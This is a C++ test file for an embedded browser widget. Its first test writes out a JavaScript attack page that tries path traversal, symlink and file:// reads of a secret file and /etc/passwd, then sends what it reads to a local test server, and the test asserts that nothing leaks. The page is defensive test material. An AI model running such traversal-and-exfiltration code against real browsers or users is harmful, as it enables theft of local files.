#include "common/TEmbeddedWB.h"
#include "tests/support/WaitFor.h"

#include "net/HttpTestServer.h"
#include "support/BrowserScript.h"

#include <QDir>
#include <QFile>
#include <QImage>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <gtest/gtest.h>

namespace {

constexpr int Deadline = 30000;

void Write(const QString& path, const QByteArray& bytes) {
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write(bytes);
}

// A page that reports to Server that it ran and that its relative image loaded, then tries every
// way it has to read a file outside its folder and sends whatever it reads to the server.
QByteArray AttackPage(const QString& server, const QString& root) {
    const QString page = R"(<html><body><img id="pic" src="img/pic.png">
<script>
var server = "SERVER";
function send(what) { new Image().src = server + what + "?" + Math.random(); }
function leak(text) {
  if (!text) return;
  fetch(server + "leak", {method: "POST", body: text, mode: "no-cors"}).catch(function () {});
  send("leak-" + encodeURIComponent(text.slice(0, 300)));
}
send("ran");
var pic = document.getElementById("pic");
function picLoaded() { if (pic.naturalWidth > 0) send("image"); }
if (pic.complete) picLoaded(); else pic.onload = picLoaded;
var targets = ["../secret/secret.txt", location.origin + "/..%2Fsecret%2Fsecret.txt",
  "link.txt", location.origin + "/%2e%2e/secret/secret.txt",
  location.origin + "/..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd",
  "file://ROOT/secret/secret.txt", "file:///etc/passwd", "/etc/passwd"];
var pending = 0;
var finished = false;
function finish() { if (!finished) { finished = true; send("done"); } }
function settle() { if (--pending === 0) finish(); }
targets.forEach(function (t) {
  pending += 3;
  fetch(t).then(function (r) { return r.text(); }).then(leak, function () {}).finally(settle);
  try {
    var x = new XMLHttpRequest();
    x.open("GET", t);
    x.onload = function () { leak(x.responseText); settle(); };
    x.onerror = settle;
    x.send();
  } catch (e) { settle(); }
  var f = document.createElement("iframe");
  f.onload = function () {
    try { leak(f.contentDocument.documentElement.innerText); } catch (e) {}
    settle();
  };
  f.src = t;
  document.body.appendChild(f);
});
window.open(server + "popup");
setTimeout(finish, 8000);
</script></body></html>)";
    return QString(page).replace("SERVER", server).replace("ROOT", root).toUtf8();
}

class EmbeddedWB : public ::testing::Test {
protected:
    void SetUp() override {
        ASSERT_TRUE(dir_.isValid());
        QImage picture(8, 8, QImage::Format_RGB32);
        picture.fill(Qt::red);
        QDir().mkpath(dir_.filePath("docs/img"));
        ASSERT_TRUE(picture.save(dir_.filePath("docs/img/pic.png"), "PNG"));
        Write(dir_.filePath("secret/secret.txt"), "TOPSECRET-4711");
        QFile::link(dir_.filePath("secret/secret.txt"), dir_.filePath("docs/link.txt"));
        QDir().mkpath(dir_.filePath("www"));
    }

    QTemporaryDir dir_;
};

TEST_F(EmbeddedWB, APageReadsNoFileOutsideItsFolderAndStillLoadsItsOwnImage) {
    HttpTestServer server(dir_.filePath("www"));
    ASSERT_TRUE(server.Started());
    const QString page = dir_.filePath("docs/attack.html");
    Write(page, AttackPage(server.Url("report/"), dir_.path()));

    TEmbeddedWB browser;
    browser.resize(400, 300);
    browser.Navigate(page);
    browser.show();

    ASSERT_TRUE(server.WaitForOutput("REPORT /report/done", Deadline))
        << server.Output().toStdString();
    const QString output = server.Output();
    EXPECT_TRUE(output.contains("REPORT /report/ran"));
    EXPECT_TRUE(output.contains("REPORT /report/image")) << output.toStdString();
    EXPECT_FALSE(output.contains("TOPSECRET")) << output.toStdString();
    EXPECT_FALSE(output.contains("root:")) << output.toStdString();
    EXPECT_FALSE(output.contains("REPORT /report/leak")) << output.toStdString();
    EXPECT_FALSE(output.contains("/report/popup")) << output.toStdString();
}

TEST_F(EmbeddedWB, StartsTheEngineOnlyWhenShownAndReportsTitleAndHistory) {
    Write(dir_.filePath("docs/one.html"), "<title>One</title><a href='two.html'>two</a>");
    Write(dir_.filePath("docs/two.html"), "<p>no title here</p>");
    TEmbeddedWB browser;
    QSignalSpy titles(&browser, &TEmbeddedWB::TitleChange);
    QSignalSpy complete(&browser, &TEmbeddedWB::DocumentComplete);
    bool canGoBack = false;
    QObject::connect(&browser, &TEmbeddedWB::CommandStateChange, [&](int command, bool enabled) {
        if (command == CSC_NAVIGATEBACK)
            canGoBack = enabled;
    });

    browser.Navigate(dir_.filePath("docs/one.html"));
    EXPECT_FALSE(browser.EngineStarted());
    browser.show();
    ASSERT_TRUE(browser.EngineStarted());
    ASSERT_SOON(!complete.isEmpty(), Deadline);
    ASSERT_SOON(!titles.isEmpty() && titles.last().at(0) == "One", Deadline);
    EXPECT_TRUE(complete.last().at(0).toBool());

    browser.Navigate(dir_.filePath("docs/two.html"));
    ASSERT_SOON(canGoBack, Deadline);
    ASSERT_SOON(titles.last().at(0).toString().isEmpty(), Deadline);
    browser.GoBack();
    ASSERT_SOON(!canGoBack && titles.last().at(0) == "One", Deadline);
    EXPECT_TRUE(PageReports(browser, "document.title == 'One'"));
}

} // namespace
